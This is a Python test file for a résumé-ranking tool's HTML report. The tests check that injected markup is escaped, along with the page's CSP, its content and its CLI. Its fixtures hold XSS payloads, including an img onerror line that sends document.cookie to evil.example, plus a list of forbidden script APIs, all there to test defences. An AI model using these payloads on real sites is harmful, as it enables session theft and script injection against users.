"""The HTML shortlist: escaping of hostile names and quotes, the CSP, content, determinism, the CLI."""

from __future__ import annotations

import datetime as dt
import io
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from jobmatch.cli import app
from jobmatch.errors import ExitCode
from jobmatch.models import (
    CandidateResult,
    Document,
    EducationEntry,
    Evidence,
    JobEntry,
    Line,
    Method,
    Posting,
    Ranking,
    Requirement,
    RequirementKind,
    RequirementMatch,
    RoleFit,
    Signals,
    Skipped,
    Status,
)
from jobmatch.render import FORMATS, render_ranking
from jobmatch.render.html import ReportRun, inline_assets, render_report, report_time, screening_questions
from tests.html_check import check_page, parse

ROOT = Path(__file__).resolve().parents[1]

# What a résumé, a posting or a file name may hold to try to become markup, a script or a fetch.
SCRIPT = "<script>alert('x')</script>"
IMG = '<img src=x onerror="fetch(`http://evil.example/`+document.cookie)">'
LINK = '<a href="javascript:alert(1)">click</a>'
ATTR_BREAK = '" onmouseover="alert(1)" x=\''
STYLE = "</style><style>body{background:url(http://evil.example/x.png)}</style>"
CLOSE_SCRIPT = "</script><script>alert(2)</script>"
META = '<meta http-equiv="refresh" content="0;url=http://evil.example/">'
COMMENT = "<!-- --><iframe srcdoc='<script>alert(3)</script>'></iframe>"
TEMPLATE = "{{ 7*7 }}{% raw %}"  # Jinja syntax in data is data: rendered once, never evaluated
HOSTILE = (SCRIPT, IMG, LINK, ATTR_BREAK, STYLE, CLOSE_SCRIPT, META, COMMENT, TEMPLATE)

R1 = Requirement(f"R1{ATTR_BREAK}", f"Bachelor's degree {SCRIPT}", RequirementKind.REQUIRED, must_have=True)
R2 = Requirement("R2", f"Excel {IMG}", RequirementKind.PREFERRED)
R3 = Requirement("R3", "Able to work weekend shifts", RequirementKind.REQUIRED)


def _posting(title: str = f"Coordinator {STYLE}") -> Posting:
    return Posting(
        path=f"postings/{LINK}.txt",
        fields=(("Title", title), ("Job ID", f"J1{META}"), (f"Client{ATTR_BREAK}", f"Acme {COMMENT}")),
        sections=(("SUMMARY", f"We hire {CLOSE_SCRIPT} people. {TEMPLATE}"),),
        requirements=(R1, R2, R3),
    )


def _evidence(text: str, matched: str) -> Evidence:
    return Evidence(
        text=text, page=2, line=7, method=Method.FUZZY, term=f"term {IMG}", matched=matched, ratio=91.2
    )


def _candidate(
    name: str, file: str, score: float, rank: int, statuses: tuple[Status, Status, Status]
) -> CandidateResult:
    quote = f"Led {SCRIPT} team and {IMG} reports"
    matches = tuple(
        RequirementMatch(
            requirement,
            status,
            {Status.MET: 1.0, Status.PARTIAL: 0.5}.get(status, 0.0),
            (_evidence(quote, SCRIPT),) if status is not Status.NOT_FOUND else (),
            f"because {LINK}",
            "skills",
            f"summary {CLOSE_SCRIPT}",
        )
        for requirement, status in zip((R1, R2, R3), statuses, strict=True)
    )
    signals = Signals(
        name=name,
        education=(EducationEntry("bachelor", f"Art {SCRIPT}", f"School {IMG}", "2014", False, STYLE),),
        jobs=(JobEntry(f"Clerk {META}", f"Employer {LINK}", "2015-03", "present", 54),),
        as_of="2025-06",
    )
    document = Document(file, "txt", (Line(quote, 2, 7),), 2, warnings=(f"hidden text ignored {SCRIPT}",))
    return CandidateResult(
        file=file,
        name=name,
        score=score,
        matches=matches,
        signals=signals,
        document=document,
        warnings=(f"note {COMMENT}",),
        rank=rank,
        role_fit=RoleFit(0.5, ("sales",), f"role {ATTR_BREAK}", (_evidence(f"Sales {STYLE}", "Sales"),)),
    )


def _ranking() -> Ranking:
    return Ranking(
        posting=_posting(),
        candidates=(
            _candidate(f"Mallory {SCRIPT}", f"cv/{IMG}.pdf", 80.0, 1, (Status.MET, Status.MET, Status.ASK)),
            _candidate(IMG, f"cv/{ATTR_BREAK}.txt", 40.0, 2, (Status.PARTIAL, Status.NOT_FOUND, Status.ASK)),
            _candidate("", f"cv/{TEMPLATE}.md", 40.0, 3, (Status.NOT_FOUND, Status.MET, Status.MET)),
        ),
        skipped=(Skipped(f"cv/{CLOSE_SCRIPT}.pdf", f"damaged {META}"),),
    )


def _page(ranking: Ranking | None = None, **kwargs: object) -> str:
    out = io.StringIO()
    render_report(ranking or _ranking(), out, **kwargs)  # type: ignore[arg-type]
    return out.getvalue()


# --------------------------------------------------------------------------- escaping


def test_hostile_strings_are_text_never_markup() -> None:
    html = _page(run=ReportRun(made_at=f"now {SCRIPT}"))
    page = check_page(html)  # only our own elements, attributes, script and stylesheet; no URL; our CSP
    text = page.all_text
    for payload in HOSTILE:
        assert payload in text or payload.strip() in text, f"{payload!r} did not arrive as text"
    attributes = " ".join(v or "" for _tag, attrs in page.tags for v in attrs.values())
    assert ATTR_BREAK in attributes  # the quote is escaped inside the attribute, which stays one value
    assert "{{ 7*7 }}" in text and "49" not in text


def test_the_raw_page_holds_no_live_markup_from_the_data() -> None:
    html = _page()
    lowered = html.lower()
    assert lowered.count("<script") == 1 and lowered.count("</script>") == 1
    assert lowered.count("<style") == 1
    for live in (
        "<img",
        "<iframe",
        '<a href="javascript',
        'onerror="',
        'onmouseover="',
        'http-equiv="refresh',
    ):
        assert live not in lowered, live
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in html


def test_the_checker_can_fail() -> None:
    html = _page()
    for injected, problem in (
        (html.replace("<footer>", '<footer><img src="http://evil.example/x">'), "unexpected element <img>"),
        (html.replace("<footer>", '<footer onclick="x()">'), "event handler onclick"),
        (html.replace('href="#c1"', 'href="https://evil.example/"'), "only the page's own anchors"),
        (html.replace("</body>", "<script>alert(1)</script></body>"), "not exactly our own"),
        (html.replace("default-src &#39;none&#39;; ", ""), "Content-Security-Policy is not ours"),
    ):
        with pytest.raises(AssertionError, match=problem):
            check_page(injected)


def test_controls_and_bidi_characters_are_removed() -> None:
    evil = "Eve\x1b[31m\u202eRED\x07\u200b"
    ranking = Ranking(_posting("Plain"), (_candidate(evil, "cv/e.txt", 50.0, 1, (Status.MET,) * 3),), ())
    html = _page(ranking)
    assert "Eve[31mRED" in check_page(html).all_text  # the ESC is gone; what it introduced is plain text
    for char in ("\x1b", "\u202e", "\x07", "\u200b"):
        assert char not in html


# --------------------------------------------------------------------------- the CSP and self-containment


def test_csp_allows_only_our_inline_script_and_stylesheet() -> None:
    assets = inline_assets()
    assert assets.csp.startswith("default-src 'none'; script-src 'sha256-")
    assert "'unsafe-inline'" not in assets.csp and "'unsafe-eval'" not in assets.csp
    assert "http" not in assets.csp
    html = _page()
    assert html.index("Content-Security-Policy") < html.index("<style>") < html.index("<script>")


def test_the_script_writes_no_html_and_fetches_nothing() -> None:
    js = inline_assets().js
    for forbidden in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "fetch(",
                      "XMLHttpRequest", "import(", "http"):  # fmt: skip
        assert forbidden not in js, forbidden


def test_no_external_reference_in_the_sample_page() -> None:
    html = (ROOT / "tests" / "golden" / "report.html").read_text(encoding="utf-8")
    check_page(html)
    for needle in ("http://", "https://", "//cdn", "@import", "url(", "src="):
        assert needle not in html, needle


# --------------------------------------------------------------------------- content


def test_grid_has_a_row_per_candidate_and_a_cell_per_requirement() -> None:
    page = parse(_page())
    rows = [attrs for tag, attrs in page.tags if tag == "tr" and "data-detail" in attrs]
    assert [r["data-detail"] for r in rows] == ["c1", "c2", "c3"]
    assert [r["data-score"] for r in rows] == ["80.0", "40.0", "40.0"]
    # R1 is the only must-have: met by the first, partial for the second, missing for the third.
    assert [r["data-musts"] for r in rows] == ["1", "0", "0"]
    cells = [
        attrs["class"] for tag, attrs in page.tags if tag == "td" and "cell" in (attrs.get("class") or "")
    ]
    assert cells[:3] == ["cell st-met", "cell st-met", "cell st-ask"]
    assert cells[3:6] == ["cell st-partial", "cell st-missing", "cell st-ask"]
    sections = [attrs["id"] for tag, attrs in page.tags if tag == "article"]
    assert sections == ["c1", "c2", "c3"]


def test_musts_default_to_the_required_items_when_none_is_marked() -> None:
    plain = Requirement("R1", "Degree", RequirementKind.REQUIRED)
    ranking = _ranking()
    posting = Posting("p.txt", (("Title", "T"),), (), (plain, R2, R3))
    candidates = tuple(
        CandidateResult(c.file, c.name, c.score, tuple(
            RequirementMatch(r, m.status, m.score, m.evidence, m.explanation) for r, m in zip(
                posting.requirements, c.matches, strict=True)), c.signals, c.document, rank=c.rank)
        for c in ranking.candidates
    )  # fmt: skip
    html = _page(Ranking(posting, candidates, ()))
    assert "every required item met" in html
    rows = [a for t, a in parse(html).tags if t == "tr" and "data-detail" in a]
    # R1 and R3 are required; "ask at screen" (R3 for the first two) does not fail the filter.
    assert [r["data-musts"] for r in rows] == ["1", "0", "0"]


def test_screening_questions_come_from_the_screening_module_required_first() -> None:
    candidate = _candidate("A", "a.txt", 50.0, 1, (Status.PARTIAL, Status.PARTIAL, Status.ASK))
    questions = screening_questions(candidate)
    # R1 (required, a must-have, partial), R3 (required, ask at screen), then R2 (preferred).
    assert [q.split(":", 1)[0] for q in questions] == ["R1" + ATTR_BREAK, "R3", "R2"]
    assert '"Able to work weekend shifts"' in questions[1]


def test_meta_line_says_when_on_which_posting_and_version() -> None:
    text = check_page(_page(run=ReportRun(made_at="2026-01-02 03:04 UTC", version="9.9"))).all_text
    assert "Ranked 2026-01-02 03:04 UTC" in text and "jobmatch 9.9" in text
    assert f"postings/{LINK}.txt" in text and "3 of 3 candidates shown" in text and "1 file skipped" in text
    assert "Ranked" not in check_page(_page()).all_text  # no time unless one is passed in


def test_evidence_shows_page_line_method_and_the_matched_words_highlighted() -> None:
    page = parse(_page())
    text = page.all_text
    assert "p2 L7" in text and 'fuzzy 91%: "term ' in text
    html = _page()
    assert "<mark>&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;</mark>" in html


def test_top_limits_the_candidates_shown() -> None:
    text = check_page(_page(top=1)).all_text
    assert "1 of 3 candidates shown" in text
    assert len([a for t, a in parse(_page(top=1)).tags if t == "article"]) == 1


def test_empty_ranking_still_makes_a_page() -> None:
    text = check_page(_page(Ranking(_posting("Empty"), (), ()))).all_text
    assert "No candidates." in text and "every file in the folder was read" in text


def test_same_inputs_same_bytes() -> None:
    assert _page() == _page()


def test_html_is_a_registered_format() -> None:
    assert "html" in FORMATS
    out = io.StringIO()
    render_ranking(_ranking(), "html", out, top=2)
    assert "2 of 3 candidates shown" in check_page(out.getvalue()).all_text


# --------------------------------------------------------------------------- the time of the run


def test_report_time_takes_source_date_epoch_then_the_clock() -> None:
    assert report_time({"SOURCE_DATE_EPOCH": "0"}) == "1970-01-01 00:00 UTC"
    now = dt.datetime(2026, 3, 4, 5, 6, 7, tzinfo=dt.UTC)
    assert report_time({}, now) == "2026-03-04 05:06 UTC"
    with pytest.raises(ValueError, match="SOURCE_DATE_EPOCH"):
        report_time({"SOURCE_DATE_EPOCH": "yesterday"})


# --------------------------------------------------------------------------- the command


def test_report_command_writes_one_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1764000000")
    target = tmp_path / "shortlist.html"
    result = CliRunner().invoke(
        app, ["report", "resumes", "-o", str(target), "--no-cache", "-j", "1", "--top", "2"]
    )
    assert result.exit_code == ExitCode.OK, result.stderr
    assert result.stdout == ""
    assert f"wrote {target}" in result.stderr
    text = check_page(target.read_text(encoding="utf-8")).all_text
    assert "Ranked 2025-11-24 16:00 UTC" in text and "2 of 17 candidates shown" in text


def test_report_command_refuses_a_bad_source_date_epoch(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(ROOT)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "soon")
    result = CliRunner().invoke(app, ["report", "resumes", "-o", str(tmp_path / "x.html")])
    assert result.exit_code == ExitCode.USAGE
    assert "SOURCE_DATE_EPOCH" in result.stderr and not (tmp_path / "x.html").exists()


def test_report_command_exit_code_says_files_were_skipped(tmp_path: Path) -> None:
    (tmp_path / "broken.pdf").write_bytes(b"%PDF-1.4 not really")
    (tmp_path / "jane.txt").write_text("Jane Doe\nSales Coordinator\n2015 - 2019\n", encoding="utf-8")
    posting = str(ROOT / "requirements" / "AVON147.txt")
    target = tmp_path / "out.html"
    result = CliRunner().invoke(
        app, ["report", str(tmp_path), "-p", posting, "-o", str(target), "--no-cache"]
    )
    assert result.exit_code == ExitCode.SKIPPED, result.stderr
    page = check_page(target.read_text(encoding="utf-8"))
    assert "broken.pdf" in page.all_text and "1 file skipped" in page.all_text


def test_report_command_on_a_folder_with_nothing_readable(tmp_path: Path) -> None:
    folder = tmp_path / "cvs"
    folder.mkdir()
    (folder / "empty.txt").write_text("", encoding="utf-8")
    posting = str(ROOT / "requirements" / "AVON147.txt")
    target = tmp_path / "out.html"
    result = CliRunner().invoke(app, ["report", str(folder), "-p", posting, "-o", str(target), "--no-cache"])
    assert result.exit_code == ExitCode.NOTHING_READABLE, result.stderr
    assert "no readable résumé" in result.stderr
    text = check_page(target.read_text(encoding="utf-8")).all_text  # still a page: it lists the skipped file
    assert "No candidates." in text and "empty.txt" in text


def test_ask_at_screen_cells_show_no_score() -> None:
    cells = [c.strip() for c in re.findall(r'<td class="cell st-ask"[^>]*>([^<]*)</td>', _page())]
    assert cells == ["? ask", "? ask"]


def test_the_checker_fails_on_a_parse_error() -> None:
    import html5lib.html5parser

    html = _page()
    for broken in (html.replace("<footer>", "<footer></span>"), html.replace("</table>", "</tabel>", 1)):
        with pytest.raises(html5lib.html5parser.ParseError):
            check_page(broken)
